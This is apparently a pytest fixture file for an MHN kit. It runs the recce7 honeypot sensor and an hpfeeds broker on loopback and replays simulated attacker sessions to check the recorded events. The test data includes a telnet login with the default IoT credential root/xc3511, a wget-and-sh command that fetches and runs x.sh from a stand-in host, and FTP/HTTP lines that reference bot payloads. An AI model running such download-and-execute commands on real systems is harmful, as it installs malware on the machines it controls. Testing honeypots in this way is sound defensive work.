"""Real recce7 events for the MHN server kit's tests.

The `real_events` fixture runs the real `recce7` binary (RECCE7_BIN, default
target/debug/recce7) as a sensor on ephemeral loopback ports, publishing to the real hpfeeds3
broker (RECCE7_VENV/bin/hpfeeds-broker, a users.json auth file). A subscriber made with the
hpfeeds3 Python client collects recce7.events while a telnet client logs in and runs commands and
the real curl posts a login form; then everything it started is stopped. Every wait is bounded.
"""

import asyncio
import importlib.util
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import time

import pytest

KIT = pathlib.Path(__file__).resolve().parents[1]
REPO = KIT.parents[1]
CHANNEL = 'recce7.events'
WAIT_SECS = 20
SENSOR_IDENT, SENSOR_SECRET = 'recce7-pi-1', 'sensor-secret-1'
READER_IDENT, READER_SECRET = 'mhn-kit-reader', 'reader-secret-1'
SENSOR_NAME = 'pi-zero-mhn-kit'
TELNET_COMMANDS = ['uname -a', 'cd /tmp && wget http://203.0.113.9/x.sh -O x.sh; sh x.sh']
# The simple commands the sensor records for TELNET_COMMANDS (it splits lines on ; && || |).
RECORDED_COMMANDS = ['uname -a', 'cd /tmp', 'wget http://203.0.113.9/x.sh -O x.sh', 'sh x.sh']
HTTP_PATH = '/login.cgi?next=http://198.51.100.7/a.sh'
HTTP_BODY = 'username=admin&password=admin'
HTTP_AGENT = 'mhn-kit-test/1.0'
BANNER_LINES = ['USER anonymous', 'RETR ftp://203.0.113.7/bot.arm7']
TLS_HELLO = b'\x16\x03\x01\x00\x05hello'
SESSIONS = 4


def load_module(name, path):
    """Imports a kit file under its own name (both kit modules are called recce7.py)."""
    spec = importlib.util.spec_from_file_location(name, str(path))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope='session')
def normalizer_module():
    return load_module('recce7_mnemosyne_normalizer', KIT / 'mnemosyne' / 'recce7.py')


@pytest.fixture(scope='session')
def geoloc_module():
    return load_module('recce7_geoloc_processor', KIT / 'geoloc' / 'recce7.py')


def free_port():
    with socket.socket() as s:
        s.bind(('127.0.0.1', 0))
        return s.getsockname()[1]


def free_ports(count):
    ports = set()
    while len(ports) < count:
        ports.add(free_port())
    return sorted(ports)


def venv_bin(name):
    venv = pathlib.Path(os.environ.get('RECCE7_VENV') or sys.prefix)
    path = venv / 'bin' / name
    if not path.exists():
        pytest.fail('%s is missing: run scripts/test-all.sh, or make a virtualenv with '
                    "pip install 'hpfeeds[broker]==3.1.0' and set RECCE7_VENV to it" % path)
    return str(path)


def recce7_bin():
    path = pathlib.Path(os.environ.get('RECCE7_BIN') or REPO / 'target' / 'debug' / 'recce7')
    if not path.exists():
        pytest.fail('%s is missing: build it with cargo build (or set RECCE7_BIN)' % path)
    return str(path)


def require(tool, package):
    path = shutil.which(tool)
    if path is None:
        pytest.fail('%s is missing: apt-get install %s' % (tool, package))
    return path


class Process:
    """A child in its own process group, its output in a log file, stopped on exit."""

    def __init__(self, args, cwd, log):
        self.log = log
        with open(log, 'wb') as out:
            self.child = subprocess.Popen(args, cwd=str(cwd), stdin=subprocess.DEVNULL,
                                          stdout=out, stderr=subprocess.STDOUT,
                                          start_new_session=True)

    def text(self):
        return pathlib.Path(self.log).read_text(errors='replace')

    def alive(self):
        return self.child.poll() is None

    def stop(self):
        if self.alive():
            self.child.send_signal(signal.SIGTERM)
            try:
                self.child.wait(10)
            except subprocess.TimeoutExpired:
                self.child.kill()
                self.child.wait(10)
        return self.child.returncode


def wait_for(what, condition, process):
    deadline = time.monotonic() + WAIT_SECS
    while not condition():
        if not process.alive():
            pytest.fail('%s exited early:\n%s' % (what, process.text()))
        if time.monotonic() > deadline:
            pytest.fail('%s: not ready after %d s:\n%s' % (what, WAIT_SECS, process.text()))
        time.sleep(0.05)


def broker_greets(port):
    try:
        with socket.create_connection(('127.0.0.1', port), timeout=2) as s:
            return len(s.recv(5)) == 5
    except OSError:
        return False


def start_broker(directory):
    port, exporter = free_ports(2)
    users = {
        SENSOR_IDENT: {'owner': 'tests', 'secret': SENSOR_SECRET,
                       'pubchans': [CHANNEL], 'subchans': []},
        READER_IDENT: {'owner': 'tests', 'secret': READER_SECRET,
                       'pubchans': [CHANNEL], 'subchans': [CHANNEL]},
    }
    (directory / 'users.json').write_text(json.dumps(users))
    broker = Process([venv_bin('hpfeeds-broker'), '--bind', '127.0.0.1:%d' % port,
                      '--exporter', '127.0.0.1:%d' % exporter, '--auth', 'users.json',
                      '--name', 'mhn-kit-broker'], directory, directory / 'broker.log')
    wait_for('hpfeeds-broker', lambda: broker_greets(port), broker)
    return broker, port


def start_sensor(directory, broker_port, telnet_port, http_port, ftp_port):
    config = directory / 'sensor.toml'
    config.write_text('\n'.join([
        '[sensor]',
        'name = "%s"' % SENSOR_NAME,
        'listen = ["127.0.0.1"]',
        'database = "%s"' % (directory / 'sensor.sqlite'),
        'shutdown_grace_secs = 1',
        'metrics_listen = ""',
        '[hpfeeds]',
        'host = "127.0.0.1"',
        'port = %d' % broker_port,
        'ident = "%s"' % SENSOR_IDENT,
        'secret = "%s"' % SENSOR_SECRET,
        'channel = "%s"' % CHANNEL,
        # Packet capture sees every connection on the shared loopback (the broker's too): the
        # events these tests check are the plug-ins' (docs/capture.md has its own tests).
        '[capture]',
        'enabled = false',
        '[[plugin]]',
        'name = "telnet"', 'kind = "telnet"', 'port = %d' % telnet_port, 'table = "telnet"',
        # Any password logs in at once: the kit checks the events of one login (the credential
        # policy has its own tests: tests/credentials.rs).
        '[plugin.options.credentials]',
        'accept_after = [0, 0]',
        '[[plugin]]',
        'name = "http"', 'kind = "http"', 'port = %d' % http_port, 'table = "http"',
        '[[plugin]]',
        'name = "ftp"', 'kind = "banner"', 'port = %d' % ftp_port, 'table = "ftp"',
        '[plugin.options]',
        'banner = "220 (vsFTPd 3.0.3)\\r\\n"',
        'reply = "530 Please login with USER and PASS.\\r\\n"',
        'protocol = "ftp"',
        '',
    ]))
    sensor = Process([recce7_bin(), 'sensor', '--config', str(config)], directory,
                     directory / 'sensor.log')
    wait_for('recce7 sensor', lambda: sensor.text().count('listening on') >= 3, sensor)
    return sensor


def read_until(sock, marker):
    got = b''
    deadline = time.monotonic() + WAIT_SECS
    while marker not in got:
        if time.monotonic() > deadline:
            pytest.fail('telnet: no %r after %d s; got %r' % (marker, WAIT_SECS, got[-200:]))
        chunk = sock.recv(4096)
        if not chunk:
            pytest.fail('telnet: closed before %r; got %r' % (marker, got[-200:]))
        got += chunk
    return got


def telnet_session(port):
    """Logs in over telnet, runs TELNET_COMMANDS, logs out; returns the client's port."""
    with socket.create_connection(('127.0.0.1', port), timeout=WAIT_SECS) as s:
        client_port = s.getsockname()[1]
        read_until(s, b'login: ')
        s.sendall(b'root\r\n')
        read_until(s, b'Password: ')
        s.sendall(b'xc3511\r\n')
        read_until(s, b'# ')
        for command in TELNET_COMMANDS:
            s.sendall(command.encode() + b'\r\n')
            read_until(s, b'# ')
        s.sendall(b'exit\r\n')
        while s.recv(4096):
            pass
    return client_port


def http_session(port):
    """Posts the login form with the real curl from a known port; returns that port."""
    client_port = free_port()
    result = subprocess.run(
        [require('curl', 'curl'), '-s', '-o', '/dev/null', '--max-time', str(WAIT_SECS),
         '--local-port', str(client_port), '-A', HTTP_AGENT, '-d', HTTP_BODY,
         'http://127.0.0.1:%d%s' % (port, HTTP_PATH)],
        timeout=WAIT_SECS + 5, capture_output=True)
    assert result.returncode == 0, result
    return client_port


def banner_session(port):
    """Sends BANNER_LINES to the banner plug-in, a line at a time; returns the client's port."""
    with socket.create_connection(('127.0.0.1', port), timeout=WAIT_SECS) as s:
        client_port = s.getsockname()[1]
        read_until(s, b'220 ')
        for line in BANNER_LINES:
            s.sendall(line.encode() + b'\r\n')
            read_until(s, b'530 ')
    return client_port


def raw_session(port):
    """Sends the start of a TLS hello to the HTTP port; returns the client's port."""
    with socket.create_connection(('127.0.0.1', port), timeout=WAIT_SECS) as s:
        client_port = s.getsockname()[1]
        s.sendall(TLS_HELLO)
        s.shutdown(socket.SHUT_WR)
        while s.recv(4096):
            pass
    return client_port


async def collect(broker_port, attack):
    """Subscribes with the hpfeeds3 client, makes sure the subscription is live (its own probe
    comes back), runs `attack` in a thread, and reads until SESSIONS sessions have ended."""
    try:
        from hpfeeds.asyncio import ClientSession
    except ImportError:
        pytest.fail('the hpfeeds3 client is missing: run pytest with the virtualenv of '
                    "scripts/test-all.sh, or pip install 'hpfeeds[broker]==3.1.0'")

    client = ClientSession('127.0.0.1', broker_port, READER_IDENT, READER_SECRET)
    deadline = time.monotonic() + WAIT_SECS

    async def next_message():
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            raise TimeoutError
        return await asyncio.wait_for(client.read(), min(remaining, 0.5))

    try:
        await asyncio.wait_for(client.when_connected, WAIT_SECS)
        client.subscribe(CHANNEL)
        probe = b'{"probe": "mhn-kit"}'
        while True:
            client.publish(CHANNEL, probe)
            try:
                if (await next_message())[2] == probe:
                    break
            except asyncio.TimeoutError:
                if time.monotonic() > deadline:
                    pytest.fail('the subscriber never got its own probe back')
        attack_result = await asyncio.get_running_loop().run_in_executor(None, attack)
        deadline = time.monotonic() + WAIT_SECS
        messages, ended = [], 0
        while ended < SESSIONS:
            try:
                message = await next_message()
            except (asyncio.TimeoutError, TimeoutError):
                if time.monotonic() > deadline:
                    pytest.fail('%d sessions ended after %d s; got %r'
                                % (ended, WAIT_SECS, messages))
                continue
            if message[2] == probe:
                continue
            messages.append(message)
            ended += json.loads(message[2])['type'] == 'session.end'
        return attack_result, messages
    finally:
        await client.close()


@pytest.fixture(scope='session')
def real_events(tmp_path_factory):
    """A dict: `messages` [(ident, channel, payload bytes)] as the subscriber got them, the
    sensor's `telnet_port`, `http_port`, `ftp_port`, and the clients' ports: `telnet_client_port`,
    `http_client_port` (curl's login POST), `ftp_client_port`, `raw_client_port` (the TLS hello
    on the HTTP port)."""
    directory = tmp_path_factory.mktemp('mhn-kit')
    broker, broker_port = start_broker(directory)
    sensor = None
    try:
        telnet_port, http_port, ftp_port = free_ports(3)

        def attack():
            nonlocal sensor
            sensor = start_sensor(directory, broker_port, telnet_port, http_port, ftp_port)
            return (telnet_session(telnet_port), http_session(http_port),
                    banner_session(ftp_port), raw_session(http_port))

        clients, messages = asyncio.run(collect(broker_port, attack))
    finally:
        status = sensor.stop() if sensor else 0
        broker.stop()
    assert status == 0, sensor.text()
    return dict(zip(['telnet_client_port', 'http_client_port', 'ftp_client_port',
                     'raw_client_port'], clients),
                messages=messages, telnet_port=telnet_port, http_port=http_port,
                ftp_port=ftp_port)
